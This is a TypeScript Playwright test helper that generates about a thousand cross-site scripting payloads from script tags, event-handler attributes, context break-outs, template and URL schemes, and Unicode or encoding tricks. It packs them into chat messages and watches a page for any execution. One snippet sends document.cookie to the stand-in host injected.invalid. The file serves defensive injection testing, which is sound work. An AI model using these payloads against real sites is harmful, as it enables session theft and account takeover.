import type { Page } from '@playwright/test'
import { messageLimit } from '@quayso/contract/rules/message-limits'
import { countCharacters, normalText } from '@quayso/contract/rules/message-text'

/** What each string tries to run: all end in `hit`, in a dialog or in a request to `injected.invalid`. */
const codes = [
  'hit(1)',
  'alert(1)',
  "window['hit'](1)",
  'top.hit(1)',
  'hit`1`',
  "setTimeout('hit(1)')",
  "Function('hit(1)')()",
  "import('data:text/javascript,hit(1)')",
  "fetch('//injected.invalid/'+document.cookie)",
  'self[String.fromCharCode(104,105,116)](1)',
]

/** Elements that run code by being rendered. */
const tags = [
  '<script>{js}</script>',
  '<ScRiPt>{js}</sCrIpT>',
  '<script src="data:text/javascript,{js}"></script>',
  '<script type=module>{js}</script>',
  '<script/x>{js}</script/x>',
  '<script\n>{js}</script\n>',
  '<<script>{js}//<</script>',
  '<svg><script>{js}</script></svg>',
  '<svg onload={js}>',
  '<svg/onload="{js}"/>',
  '<svg><animate onbegin={js} attributeName=x dur=1s>',
  '<svg><set onbegin={js} attributename=x>',
  '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>',
  '<img src=x onerror={js}>',
  '<img src=x onerror="{js}">',
  '<IMG SRC=x ONERROR={js}>',
  '<img/src=x/onerror={js}>',
  '<img\tsrc=x\tonerror={js}>',
  '<img\vsrc=x\fonerror={js}>',
  '<img src=x onerror={js} //',
  '<image src=x onerror={js}>',
  '<picture><source srcset=x><img onerror={js} src=x></picture>',
  '<video src=x onerror={js}></video>',
  '<video><source onerror={js}></video>',
  '<audio src=x onerror={js}>',
  '<body onload={js}>',
  '<body onpageshow={js}>',
  '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
  '<iframe src="javascript:parent.{js}"></iframe>',
  '<iframe onload={js}></iframe>',
  '<object data="javascript:{js}"></object>',
  '<object data=x onerror={js}></object>',
  '<embed src="javascript:{js}">',
  '<details open ontoggle={js}>x</details>',
  '<input autofocus onfocus={js}>',
  '<select autofocus onfocus={js}></select>',
  '<textarea autofocus onfocus={js}></textarea>',
  '<button autofocus onfocus={js}>x</button>',
  '<x contenteditable autofocus onfocus={js} tabindex=1>x</x>',
  '<marquee onstart={js}>x</marquee>',
  '<style onload={js}></style>',
  "<style>@import 'javascript:{js}';</style>",
  '<style>*{background:url("javascript:{js}")}</style>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="{js}">x</b>',
  '<link rel=stylesheet href="data:text/css,*{}" onload={js}>',
  '<meta http-equiv=refresh content="0;url=javascript:{js}">',
  '<base href="javascript:{js}//">',
  '<form action="javascript:{js}"><input type=submit></form>',
  '<form id=x></form><button form=x formaction="javascript:{js}">x</button>',
  '<a href="javascript:{js}">x</a>',
  '<a href=" &#14; javascript:{js}">x</a>',
  '<math><mtext><img src=x onerror={js}></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={js}>">',
  '<template><img src=x onerror={js}></template>',
  '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
  '<xmp><img src="</xmp><img src=x onerror={js}>"></xmp>',
  '<custom-x onclick={js} is=x>x</custom-x>',
  '<dialog open oncancel={js}><form method=dialog><button>x</button></form></dialog>',
  '<!--[if IE]><script>{js}</script><![endif]-->',
  '<!--><img src=x onerror={js}>-->',
  '<![CDATA[<img src=x onerror={js}>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">{js}</script>',
]

/** Breaks out of the context that the text is put into. */
const escapes = [
  '</p><img src=x onerror={js}>',
  '</li></ul><script>{js}</script>',
  '</div></main></body><script>{js}</script>',
  '"><img src=x onerror={js}>',
  "'><svg onload={js}>",
  '`><img src=x onerror={js}>',
  '" autofocus onfocus="{js}" x="',
  "' autofocus onfocus='{js}' x='",
  '" style="animation-name:x" onanimationstart="{js}',
  '</script><script>{js}</script>',
  '</script ><script >{js}</script >',
  '</SCRIPT><SCRIPT>{js}</SCRIPT>',
  '<!--<script></script><script>{js}//-->',
  '</title><script>{js}</script>',
  '</style><script>{js}</script>',
  '</textarea><script>{js}</script>',
  '</noscript><script>{js}</script>',
  '--><script>{js}</script>',
  ']]><script>{js}</script>',
  '";{js};//',
  '\\";{js};//',
  "';{js};//",
  "\\';{js};//",
  "'-{js}-'",
  '`-{js}-`',
  ']}");{js};//',
  '\\u003c/script\\u003e\\u003cscript\\u003e{js}\\u003c/script\\u003e',
  '\\x3cscript\\x3e{js}\\x3c/script\\x3e',
  'x\u2028{js}\u2029',
  'x\u0085{js}',
  '\\\n{js}\n//',
  '*/{js}/*',
  'data: x\n\nevent: message\ndata: <img src=x onerror={js}>',
]

/** Strings that a template, a link or a decoder would interpret. */
const interpreted = [
  '{{{js}}}',
  "{{constructor.constructor('{js}')()}}",
  '$' + '{{js}}',
  '#{{js}}',
  '<%= {js} %>',
  '{% {js} %}',
  '[[$' + '{{js}}]]',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror={js}>"}}',
  '{"__proto__":{"innerHTML":"<img src=x onerror={js}>"}}',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"{js}"}}',
  '["P",1,"</script><script>{js}</script>"]',
  'javascript:{js}',
  'JaVaScRiPt:{js}',
  'java\tscript:{js}',
  'java\nscript:{js}',
  'vbscript:{js}',
  'data:text/html,<script>parent.{js}</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4={js}',
  'https://injected.invalid/"onmouseover="{js}',
  'http://injected.invalid/?<script>{js}</script>',
  '//injected.invalid/{js}',
  '[x](javascript:{js})',
  '![x](x"onerror="{js})',
  '<javascript:{js}>',
  '[url=javascript:{js}]x[/url]',
  '[img]x" onerror="{js}[/img]',
  '&lt;script&gt;{js}&lt;/script&gt;',
  '&amp;lt;script&amp;gt;{js}',
  '&#60;script&#62;{js}&#60;/script&#62;',
  '&#x3c;img src=x onerror={js}&#x3e;',
  '&#0000060img src=x onerror={js}&#0000062',
  '&lt&lt;img src=x onerror={js}&gt&gt;',
  '%3Cscript%3E{js}%3C/script%3E',
  '%253Cscript%253E{js}',
  '+ADw-script+AD4-{js}+ADw-/script+AD4-',
  '\uff1cscript\uff1e{js}\uff1c/script\uff1e',
  '\u2039script\u203a{js}',
  '\u202e<script>{js}</script>\u202c',
  '\u2066\u202e>tpircs/<{js}>tpircs<\u2069',
  '<scr\u200bipt>{js}</scr\u200bipt>',
  '<\u200dscript>{js}</script>',
  '<script\u00a0>{js}</script\u00a0>',
  '<\u017fcript>{js}</\u017fcript>',
  '<\u0131frame src="javascript:{js}">',
  '<img src=x onerror\u3000={js}>',
  '<i\u0308mg src=x onerror={js}>',
  '\u0001<script>{js}</script>\u001b[31m',
  'Z\u0351\u036b\u0343<script>{js}</script>\u0319\u0320\u0324',
  '👨‍👩‍👧<img src=x onerror={js}>🇻🇳',
  'ไทย<script>{js}</script>中文<b>Việt</b>',
]

/** A thousand strings as the server stores them: each context with nearly every code. */
export const injections: readonly string[] = codes
  .flatMap((code) => [...tags, ...escapes, ...interpreted].map((way) => normalText(way.replaceAll('{js}', code))))
  .slice(0, 1000)

/** The same in fewer texts: one per line, as many as a message allows. */
export function packInjections(): string[] {
  const packed: string[] = []
  for (const injection of injections) {
    const last = packed[packed.length - 1]
    const longer = last === undefined ? injection : `${last}\n${injection}`
    if (last !== undefined && countCharacters(longer) <= messageLimit) packed[packed.length - 1] = longer
    else packed.push(injection)
  }
  return packed
}

/** Watches a page, from its next document on, for any effect of an injected string. */
export async function watchInjections(page: Page): Promise<string[]> {
  const happened: string[] = []
  await page.exposeFunction('tellHit', (what: string) => happened.push(what))
  await page.addInitScript(() => {
    const tell = (window as unknown as { tellHit: (what: string) => void }).tellHit
    Object.assign(window, { hit: () => tell('a script ran') })
    addEventListener('securitypolicyviolation', ({ blockedURI }) => tell(`blocked ${blockedURI}`))
  })
  page.on('dialog', (dialog) => {
    happened.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    if (request.url().includes('injected.invalid')) happened.push(request.url())
  })
  page.on('pageerror', ({ message }) => happened.push(message))
  page.on('console', (line) => {
    if (line.type() === 'error') happened.push(line.text())
  })
  return happened
}
